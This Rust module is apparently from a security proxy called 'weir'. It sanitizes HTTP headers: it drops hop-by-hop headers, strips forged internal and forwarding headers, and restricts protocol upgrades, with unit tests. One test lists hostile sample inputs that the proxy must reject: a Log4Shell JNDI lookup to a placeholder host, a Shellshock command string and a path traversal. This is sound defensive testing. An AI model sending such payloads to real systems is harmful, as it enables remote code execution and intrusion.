//! Header rules of a proxy: what is removed before inspection, what is added for the upstream, what is removed from
//! the answer.
//!
//! Not here: refusing requests (`guard`). Everything is removed *before* inspection, so that what was inspected is
//! what the upstream gets; afterwards only headers of our own are added.

use std::fmt::Write;

use http::header::{self, HeaderName, HeaderValue};
use http::{HeaderMap, Version};

use crate::listen::client::{Client, Peer};

/// The verdict of this request, for the upstream. Clients cannot set it.
pub const VERDICT: HeaderName = HeaderName::from_static("x-weir-verdict");
/// The score of this request, for the upstream. Clients cannot set it.
pub const SCORE: HeaderName = HeaderName::from_static("x-weir-score");
/// Names one request to client, upstream and operator.
pub const REQUEST_ID: HeaderName = HeaderName::from_static("x-request-id");
/// The chain of clients before the upstream.
pub const FORWARDED_FOR: HeaderName = HeaderName::from_static("x-forwarded-for");
/// `http` or `https`, as the client came in.
pub const FORWARDED_PROTO: HeaderName = HeaderName::from_static("x-forwarded-proto");
/// The host that the client asked for.
pub const FORWARDED_HOST: HeaderName = HeaderName::from_static("x-forwarded-host");

const KEEP_ALIVE: HeaderName = HeaderName::from_static("keep-alive");
const PROXY_CONNECTION: HeaderName = HeaderName::from_static("proxy-connection");

/// RFC 9110, 7.6.1, and the two that older peers send.
const HOP_BY_HOP: [HeaderName; 9] = [
    header::CONNECTION,
    KEEP_ALIVE,
    PROXY_CONNECTION,
    header::TE,
    header::TRAILER,
    header::TRANSFER_ENCODING,
    header::UPGRADE,
    header::PROXY_AUTHENTICATE,
    header::PROXY_AUTHORIZATION,
];

/// Never removed because `Connection` lists them: a client could otherwise strip what identifies or frames a request
/// after another proxy has relied on it.
const END_TO_END: [HeaderName; 6] = [
    header::HOST,
    header::CONTENT_LENGTH,
    header::CONTENT_TYPE,
    header::CONTENT_ENCODING,
    header::COOKIE,
    header::AUTHORIZATION,
];

/// Bytes of a protocol's name: the longest registered one has 16.
const MAX_PROTOCOL: usize = 32;

/// The protocol that a client asks to switch to, when it may.
pub type Upgrade = HeaderValue;

/// Removes what must not travel on, and returns the upgrade that the client asks for. Call before inspection.
pub fn sanitize_request(headers: &mut HeaderMap, version: Version, trust: Peer) -> Option<Upgrade> {
    let upgrade = wanted_upgrade(headers, version);
    remove_hop_by_hop(headers);
    headers.remove(header::EXPECT);
    remove_forged(headers, trust);
    if version == Version::HTTP_2 {
        join_cookies(headers);
    }
    upgrade
}

/// HTTP/1.1 and one protocol only. Never another HTTP or TLS: a tunnel of requests would pass uninspected.
fn wanted_upgrade(headers: &HeaderMap, version: Version) -> Option<Upgrade> {
    if version != Version::HTTP_11 || !lists(headers, "upgrade") {
        return None;
    }
    let mut values = headers.get_all(header::UPGRADE).into_iter();
    let (value, None) = (values.next()?, values.next()) else {
        return None;
    };
    let name = value.to_str().ok()?.to_ascii_lowercase();
    let carries_http = ["h2", "http", "tls"]
        .iter()
        .any(|prefix| name.starts_with(prefix));
    (!carries_http && is_protocol(&name)).then(|| value.clone())
}

/// A name with an optional version, such as `websocket` or `foo/1.1`. The value goes to the upstream without having
/// been inspected, so it must not be able to say anything else.
fn is_protocol(name: &str) -> bool {
    name.len() <= MAX_PROTOCOL
        && name.starts_with(|first: char| first.is_ascii_alphabetic())
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'/'))
}

fn lists(headers: &HeaderMap, token: &str) -> bool {
    connection_tokens(headers).any(|listed| listed.eq_ignore_ascii_case(token))
}

fn connection_tokens(headers: &HeaderMap) -> impl Iterator<Item = &str> {
    headers
        .get_all(header::CONNECTION)
        .into_iter()
        .filter_map(|line| line.to_str().ok())
        .flat_map(|line| line.split(','))
        .map(str::trim)
}

fn remove_hop_by_hop(headers: &mut HeaderMap) {
    if headers.contains_key(header::CONNECTION) {
        let listed: Vec<HeaderName> = connection_tokens(headers)
            .filter_map(|token| HeaderName::from_bytes(token.as_bytes()).ok())
            .filter(|name| !END_TO_END.contains(name))
            .collect();
        for name in listed {
            headers.remove(name);
        }
    }
    for name in &HOP_BY_HOP {
        headers.remove(name);
    }
}

/// Removes headers that only this proxy, or only a trusted peer, may set: also under names that an origin which
/// maps headers to variables (CGI, WSGI) cannot tell apart, such as `X_Weir_Verdict`.
fn remove_forged(headers: &mut HeaderMap, trust: Peer) {
    let forged: Vec<HeaderName> = headers
        .keys()
        .filter(|name| {
            let name = name.as_str();
            let Some(b'x' | b'f') = name.bytes().next() else {
                return false;
            };
            let spelled = name.replace(['_', '.'], "-");
            if spelled.starts_with("x-weir-") {
                return true;
            }
            let ours = spelled.starts_with("x-forwarded-")
                || spelled == "forwarded"
                || spelled == "x-request-id";
            ours && (trust == Peer::Untrusted || spelled != name)
        })
        .cloned()
        .collect();
    for name in forged {
        headers.remove(name);
    }
}

/// HTTP/2 splits cookies for compression; HTTP/1.1 knows one line (RFC 9113, 8.2.3).
fn join_cookies(headers: &mut HeaderMap) {
    let mut crumbs = headers.get_all(header::COOKIE).into_iter();
    let (Some(first), Some(second)) = (crumbs.next(), crumbs.next()) else {
        return;
    };
    let mut joined = first.as_bytes().to_vec();
    for crumb in std::iter::once(second).chain(crumbs) {
        joined.extend_from_slice(b"; ");
        joined.extend_from_slice(crumb.as_bytes());
    }
    // Crumbs were valid values and so is the separator.
    if let Ok(value) = HeaderValue::from_bytes(&joined) {
        headers.insert(header::COOKIE, value);
    }
}

/// Whether the client came over TLS.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scheme {
    /// Cleartext.
    Http,
    /// TLS.
    Https,
}

impl Scheme {
    const fn name(self) -> &'static str {
        match self {
            Self::Http => "http",
            Self::Https => "https",
        }
    }
}

/// Adds the forwarding headers. A trusted peer's chain is continued, anybody else's has been removed.
pub fn stamp_forwarding(
    headers: &mut HeaderMap,
    client: &Client,
    scheme: Scheme,
    version: Version,
) {
    let peer = client.peer.to_string();
    append_to_list(headers, FORWARDED_FOR, &peer);
    if !headers.contains_key(FORWARDED_PROTO) {
        headers.insert(FORWARDED_PROTO, HeaderValue::from_static(scheme.name()));
    }
    let host = headers.get(header::HOST).cloned();
    let mut element = if peer.contains(':') {
        format!("for=\"[{peer}]\"")
    } else {
        format!("for={peer}")
    };
    if let Some(host) = &host {
        if !headers.contains_key(FORWARDED_HOST) {
            headers.insert(FORWARDED_HOST, host.clone());
        }
        // The guard has let through no quote or backslash in it.
        if let Ok(host) = host.to_str() {
            let _ = write!(element, ";host=\"{host}\"");
        }
    }
    let _ = write!(element, ";proto={}", scheme.name());
    append_to_list(headers, header::FORWARDED, &element);
    headers.append(header::VIA, via(version));
}

fn append_to_list(headers: &mut HeaderMap, name: HeaderName, element: &str) {
    let mut list = Vec::new();
    for line in headers.get_all(&name) {
        list.extend_from_slice(line.as_bytes());
        list.extend_from_slice(b", ");
    }
    list.extend_from_slice(element.as_bytes());
    if let Ok(value) = HeaderValue::from_bytes(&list) {
        headers.insert(name, value);
    }
}

fn via(version: Version) -> HeaderValue {
    HeaderValue::from_static(match version {
        Version::HTTP_10 => "1.0 weir",
        Version::HTTP_2 => "2 weir",
        _ => "1.1 weir",
    })
}

/// Asks the upstream for the switch that the client wants.
pub fn stamp_upgrade(headers: &mut HeaderMap, upgrade: Upgrade) {
    headers.insert(header::CONNECTION, HeaderValue::from_static("upgrade"));
    headers.insert(header::UPGRADE, upgrade);
}

/// Cleans an upstream's answer. `Date`, `Server` and everything end-to-end stay as they are.
pub fn sanitize_response(headers: &mut HeaderMap, version: Version) {
    remove_hop_by_hop(headers);
    headers.append(header::VIA, via(version));
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing)]

    use super::*;

    fn map(pairs: &[(&str, &str)]) -> HeaderMap {
        let mut headers = HeaderMap::new();
        for (name, value) in pairs {
            headers.append(
                HeaderName::from_bytes(name.as_bytes()).unwrap(),
                HeaderValue::from_str(value).unwrap(),
            );
        }
        headers
    }

    fn client(peer: &str, trusted: &str, headers: &HeaderMap) -> Client {
        Client::identify(
            format!("{peer}:9").parse().unwrap(),
            headers,
            &[trusted.parse().unwrap()],
        )
    }

    #[test]
    fn hop_by_hop_and_listed_headers_go_but_not_what_frames_a_request() {
        let mut headers = map(&[
            ("connection", "close, X-Secret-Hop, content-type, Host"),
            ("connection", "x-other"),
            ("x-secret-hop", "1"),
            ("x-other", "1"),
            ("te", "trailers"),
            ("keep-alive", "timeout=5"),
            ("expect", "100-continue"),
            ("host", "a"),
            ("content-type", "text/plain"),
        ]);
        assert_eq!(
            sanitize_request(&mut headers, Version::HTTP_11, Peer::Untrusted),
            None
        );
        let mut left: Vec<_> = headers.keys().map(HeaderName::as_str).collect();
        left.sort_unstable();
        assert_eq!(left, ["content-type", "host"]);
    }

    #[test]
    fn nobody_forges_our_headers_under_any_spelling() {
        let forged = [
            ("x-weir-verdict", "pass"),
            ("x_weir_score", "0"),
            ("X-Weir-Anything", "1"),
            ("x_forwarded_for", "1.1.1.1"),
            ("x-forwarded_host", "evil"),
        ];
        let mut headers = map(&forged);
        sanitize_request(&mut headers, Version::HTTP_11, Peer::Trusted);
        assert!(headers.is_empty(), "{headers:?}");
        let mut headers = map(&[
            ("x-forwarded-for", "1.1.1.1"),
            ("forwarded", "for=1.1.1.1"),
            ("x-request-id", "7"),
        ]);
        sanitize_request(&mut headers, Version::HTTP_11, Peer::Trusted);
        assert_eq!(headers.len(), 3);
        sanitize_request(&mut headers, Version::HTTP_11, Peer::Untrusted);
        assert!(headers.is_empty(), "{headers:?}");
    }

    #[test]
    fn a_trusted_chain_is_continued_and_another_replaced() {
        let start = [
            ("host", "shop.example:8443"),
            ("x-forwarded-for", "1.2.3.4"),
            ("x-forwarded-proto", "https"),
        ];
        let mut headers = map(&start);
        let trusted = client("10.0.0.1", "10.0.0.0/8", &headers);
        sanitize_request(&mut headers, Version::HTTP_11, trusted.trust);
        stamp_forwarding(&mut headers, &trusted, Scheme::Http, Version::HTTP_11);
        assert_eq!(headers["x-forwarded-for"], "1.2.3.4, 10.0.0.1");
        assert_eq!(headers["x-forwarded-proto"], "https");

        let mut headers = map(&start);
        let stranger = client("[2001:db8::1]", "10.0.0.0/8", &headers);
        sanitize_request(&mut headers, Version::HTTP_2, stranger.trust);
        stamp_forwarding(&mut headers, &stranger, Scheme::Http, Version::HTTP_2);
        assert_eq!(headers["x-forwarded-for"], "2001:db8::1");
        assert_eq!(headers["x-forwarded-proto"], "http");
        assert_eq!(headers["x-forwarded-host"], "shop.example:8443");
        assert_eq!(
            headers["forwarded"],
            "for=\"[2001:db8::1]\";host=\"shop.example:8443\";proto=http"
        );
        assert_eq!(headers["via"], "2 weir");
    }

    #[test]
    fn only_an_honest_upgrade_is_passed() {
        let wanted = |connection: &str, upgrade: &str, version| {
            let mut headers = map(&[("connection", connection), ("upgrade", upgrade)]);
            sanitize_request(&mut headers, version, Peer::Untrusted).is_some()
        };
        assert!(wanted("keep-alive, Upgrade", "websocket", Version::HTTP_11));
        assert!(!wanted("keep-alive", "websocket", Version::HTTP_11));
        assert!(!wanted("upgrade", "websocket", Version::HTTP_10));
        assert!(!wanted("upgrade", "h2c", Version::HTTP_11));
        assert!(!wanted("upgrade", "TLS/1.0, HTTP/1.1", Version::HTTP_11));
        assert!(!wanted("upgrade", "websocket, h2c", Version::HTTP_11));
        // It would pass uninspected.
        for payload in ["${jndi:ldap://evil/a}", "() { :; }; id", "../../x", ""] {
            assert!(!wanted("upgrade", payload, Version::HTTP_11), "{payload}");
        }
    }

    #[test]
    fn cookie_crumbs_become_one_line() {
        let mut headers = map(&[("cookie", "a=1"), ("cookie", "b=2"), ("cookie", "c=3")]);
        sanitize_request(&mut headers, Version::HTTP_2, Peer::Untrusted);
        assert_eq!(
            headers.get_all("cookie").iter().collect::<Vec<_>>(),
            ["a=1; b=2; c=3"]
        );
    }
}
